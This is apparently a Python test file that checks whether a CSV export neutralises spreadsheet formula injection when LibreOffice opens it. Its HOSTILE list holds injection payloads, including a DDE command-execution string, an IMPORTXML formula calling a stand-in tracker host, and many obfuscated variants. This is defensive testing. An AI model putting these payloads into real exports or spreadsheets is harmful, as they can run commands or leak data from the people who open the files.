"""A CSV export in a real spreadsheet program: LibreOffice's, which `python -m tests.browser.install` installs."""

from __future__ import annotations

import re
import subprocess
import zipfile
from pathlib import Path

from python_calamine import CalamineWorkbook

from tests.fakes import MemoryStore
from tests.voting.cli.conftest import Run
from tests.voting.cli.records import FORMULA, vote

HOSTILE = (
    FORMULA,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("http://tracker.example.net";"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    '"=1+1"',
    '"',
    '","=1+1',
    "one;=1+1;two",
    "one\t=1+1\ttwo",
    'one;";=1+1;"',
    "';=1+1",
    "{=1+1}",
    "'=1+1",
    "''=1+1",
)


def opened(csv: Path) -> Path:
    """The file as LibreOffice opened it, saved again as a spreadsheet."""
    profile = (csv.parent / "profile").as_uri()  # of its own: an office that runs already would answer for it
    as_utf8 = "--infilter=CSV:44/59/9,34,76"  # comma, semicolon, tab; quotation mark; UTF-8: what its dialogue offers
    command = ["soffice", f"-env:UserInstallation={profile}", "--headless", as_utf8, "--convert-to", "ods"]
    subprocess.run([*command, "--outdir", str(csv.parent), str(csv)], check=True, capture_output=True, timeout=250)
    return csv.with_suffix(".ods")


def formulas(spreadsheet: Path) -> list[str]:
    """Every cell that works something out, and every link."""
    with zipfile.ZipFile(spreadsheet) as parts:
        content = parts.read("content.xml").decode()
    return re.findall(r"table:formula=\"[^\"]*\"|xlink:href=\"[^\"]*\"", content)


class TestLibreOffice:
    """What opens when somebody double-clicks the file."""

    def test_no_formula_is_live(self, run: Run, tmp_path: Path, store: MemoryStore) -> None:
        """Each is text, and taking one leading quote away gives it back."""
        for number, text in enumerate(HOSTILE):
            vote(store, 10 + number, "tie", response_a=text, model_a=f"{text}-model")
        assert run("export", tmp_path / "out.csv").code == 0
        spreadsheet = opened(tmp_path / "out.csv")
        assert formulas(spreadsheet) == []
        head, *rows = CalamineWorkbook.from_path(spreadsheet).get_sheet_by_index(0).to_python()
        cells = [str(row[head.index("response_a")]) for row in rows]
        told = {_plain(cell.removeprefix("'")) for cell in cells}
        assert {_plain(text) for text in HOSTILE} - told == set()

    def test_unguarded_ones_would_be(self, tmp_path: Path) -> None:
        """So the test above sees what it looks for; other programs run those with + - @ too."""
        quoted = FORMULA.replace('"', '""')
        (tmp_path / "raw.csv").write_text(f'a,b\n=1+1,"{quoted}"\n')
        assert len(formulas(opened(tmp_path / "raw.csv"))) == 2


def _plain(text: str) -> str:
    """Spreadsheets have their own line breaks, a byte order mark is none of a text, and the reader skips tabs."""
    return "\n".join(text.replace("\ufeff", "").replace("\t", "").splitlines()).strip()
